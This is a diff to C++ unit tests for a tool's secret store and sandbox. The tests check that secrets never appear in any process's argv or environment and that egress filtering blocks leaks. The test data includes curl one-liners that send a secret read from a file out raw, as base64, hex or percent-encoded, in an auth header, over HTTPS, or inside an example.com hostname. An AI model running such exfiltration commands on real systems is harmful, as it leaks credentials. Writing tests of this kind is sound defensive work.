@@ -9,8 +9,11 @@
 #include <gtest/gtest.h>
 #include <sys/stat.h>
 
+#include <atomic>
+#include <chrono>
 #include <fstream>
 #include <sstream>
+#include <thread>
 
 #include <nlohmann/json.hpp>
 
@@ -80,10 +83,11 @@ class SecretsCliTest : public ::testing::Test {
 };
 
 TEST_F(SecretsCliTest, ValuesComeFromStdinNeverArgvAndAreNeverListed) {
-  auto in_argv = chitin({"secrets", "set", "openai", kValue});
+  // (A throw-away value: no test puts a stored value into any process's argv.)
+  auto in_argv = chitin({"secrets", "set", "openai", "sk-typed-into-argv-0000"});
   EXPECT_EQ(in_argv.status.code, 2);
   EXPECT_NE(in_argv.err.find("on the command line is refused"), std::string::npos);
-  EXPECT_EQ(in_argv.err.find(kValue), std::string::npos);  // not even echoed in the error
+  EXPECT_EQ(in_argv.err.find("sk-typed"), std::string::npos);  // not even echoed in the error
   auto set = chitin({"secrets", "set", "openai", "--hosts", "api.openai.com", "--header",
                      "Authorization", "--format", "Bearer {}"},
                     kValue + "\n");
@@ -180,6 +184,28 @@ TEST_F(SecretsCliTest, GrantsAreCheckedBeforeAnythingRuns) {
   EXPECT_NE(::stat((workspace() + "/ran").c_str(), &st), 0);  // nothing ran
 }
 
+// The pids whose command line or environment contains `value`.
+std::string processes_holding(const std::string& value) {
+  std::string found;
+  DIR* proc = ::opendir("/proc");
+  while (const dirent* entry = ::readdir(proc)) {
+    const std::string pid = entry->d_name;
+    if (pid.find_first_not_of("0123456789") != std::string::npos) {
+      continue;
+    }
+    for (const char* what : {"/cmdline", "/environ"}) {
+      std::ifstream file("/proc/" + pid + what, std::ios::binary);
+      std::stringstream text;
+      text << file.rdbuf();
+      if (text.str().find(value) != std::string::npos) {
+        found += pid + what + " ";
+      }
+    }
+  }
+  ::closedir(proc);
+  return found;
+}
+
 // The script of the acceptance test: prints what it can see of the secret, then calls the
 // server with the placeholder in a header.
 std::string script(const std::string& url) {
@@ -194,8 +220,26 @@ TEST_F(SecretsCliTest, ASandboxedScriptUsesASecretOverPlainHttpWithoutSeeingIt) 
   const std::string unbound_host = "127.0.0.1:" + std::to_string(unbound.port());
   ASSERT_EQ(chitin({"secrets", "set", "demo", "--hosts", bound_host}, kValue).status.code, 0);
 
-  auto run = chitin({"sandbox", "run", "--secret", "demo", "--", "/bin/sh", "-c",
-                     script("http://" + bound_host + "/v1/models")});
+  // While the run is in flight, no process on the machine has the value in its argv or its
+  // environment (the sandboxed ones included: they are visible from here).
+  CapturedRun run;
+  std::atomic<bool> done{false};
+  std::thread runner([&] {
+    run = chitin({"sandbox", "run", "--secret", "demo", "--", "/bin/sh", "-c",
+                  script("http://" + bound_host + "/v1/models") + "; sleep 1"});
+    done = true;
+  });
+  int scans = 0;
+  bool saw_the_run = false;  // the scan does see the run's processes
+  while (!done) {
+    EXPECT_EQ(processes_holding(kValue), "");
+    saw_the_run = saw_the_run || !processes_holding("CHITIN_HOME=" + dir_.file("state")).empty();
+    ++scans;
+    std::this_thread::sleep_for(std::chrono::milliseconds(20));
+  }
+  runner.join();
+  EXPECT_GT(scans, 10);
+  EXPECT_TRUE(saw_the_run);
   ASSERT_EQ(run.status.code, 0) << run.err;
   EXPECT_NE(run.out.find("env: chitin-secret://demo"), std::string::npos) << run.out;
   EXPECT_NE(run.out.find("bound-ok"), std::string::npos) << run.out;
@@ -214,24 +258,28 @@ TEST_F(SecretsCliTest, ASandboxedScriptUsesASecretOverPlainHttpWithoutSeeingIt) 
                            "curl -sS -H 'X-Key: chitin-secret://demo' http://" + bound_host + "/"});
   EXPECT_NE(ungranted.out.find("not granted"), std::string::npos) << ungranted.out;
 
-  // The value itself, however encoded, is refused on the way out (a script that found it).
-  const std::string b64 = base64_encode(as_bytes("user:" + kValue));
-  const std::string hex = hex_encode(as_bytes(kValue));
+  // The value itself, however encoded, is refused on the way out: a script that found it in
+  // a file (never in any process's argv, not even in this test).
+  write_text(workspace() + "/found.txt", kValue);
+  const std::string url = "http://" + bound_host + "/";
   for (const auto& [command, how] : std::vector<std::pair<std::string, std::string>>{
-           {"curl -sS -d 'k=" + kValue + "' http://" + bound_host + "/", "(raw)"},
-           {"curl -sS -H 'Authorization: Basic " + b64 + "' http://" + bound_host + "/",
+           {"curl -sS --data-binary @found.txt " + url, "(raw)"},
+           {"curl -sS -H \"Authorization: Basic $(printf 'user:%s' \"$(cat found.txt)\" | "
+            "base64 -w0)\" " +
+                url,
             "(base64)"},
-           {"curl -sS 'http://" + bound_host + "/?q=" + hex + "'", "(hex)"},
-           {"curl -sS 'http://" + bound_host + "/?q=sk-test%2DQ7f3LmZx9Kp2Wd8Rt5Yb'", "(percent)"},
-           {"curl -sS --connect-timeout 5 http://" + kValue + ".example.com/",
+           {"curl -sS \"" + url + "?q=$(od -An -tx1 found.txt | tr -d ' \\n')\"", "(hex)"},
+           {"curl -sS \"" + url + "?q=$(sed 's/-/%2D/g' found.txt)\"", "(percent)"},
+           {"curl -sS --connect-timeout 5 \"http://$(cat found.txt).example.com/\"",
             "was in the host name"},
-           {"curl -sS -d 'AKIAIOSFODNN7EXAMPLE' http://" + bound_host + "/",
+           {"curl -sS -d 'AKIAIOSFODNN7EXAMPLE' " + url,
             "secret-shaped string (SECRET_AWS_ACCESS_KEY_ID)"}}) {
-    auto leak =
-        chitin({"sandbox", "run", "--allow-host", bound_host, "--", "/bin/sh", "-c", command});
+    auto leak = chitin({"sandbox", "run", "--allow-host", bound_host, "--allow-host",
+                        "*.example.com", "--", "/bin/sh", "-c", command});
     EXPECT_NE(leak.out.find("chitin egress: blocked:"), std::string::npos) << command << leak.out;
-    EXPECT_NE(leak.out.find(how), std::string::npos) << how << ": " << leak.out;
+    EXPECT_NE(leak.out.find(how), std::string::npos) << how << ": " << leak.out << leak.err;
   }
+  ASSERT_EQ(::unlink((workspace() + "/found.txt").c_str()), 0);
   auto trail = chitin({"audit", "tail", "--type", "secret", "--json", "-n", "50"});
   EXPECT_NE(trail.out.find("\"type\":\"secret.use\""), std::string::npos);
   EXPECT_NE(trail.out.find("\"type\":\"secret.leak_blocked\""), std::string::npos);
@@ -264,9 +312,10 @@ TEST_F(SecretsCliTest, ASandboxedScriptUsesASecretOverHttpsThroughTheLocalCa) {
   // A script that found the value and sends it, encoded, over HTTPS: the tunnel is
   // intercepted, so the request is read and refused before the server sees anything.
   const int before = echo.requests();
-  auto leak =
-      chitin({"sandbox", "run", "--secret", "demo", "--", "/bin/sh", "-c",
-              "curl -sS -d 'x=" + base64_encode(as_bytes(kValue)) + "' https://" + host + "/"});
+  write_text(workspace() + "/found.txt", kValue);
+  auto leak = chitin({"sandbox", "run", "--secret", "demo", "--", "/bin/sh", "-c",
+                      "curl -sS -d \"x=$(base64 -w0 found.txt)\" https://" + host + "/"});
+  ASSERT_EQ(::unlink((workspace() + "/found.txt").c_str()), 0);
   EXPECT_NE(leak.out.find("blocked: the value of secret 'demo' (base64)"), std::string::npos)
       << leak.out << leak.err;
   EXPECT_EQ(echo.requests(), before);
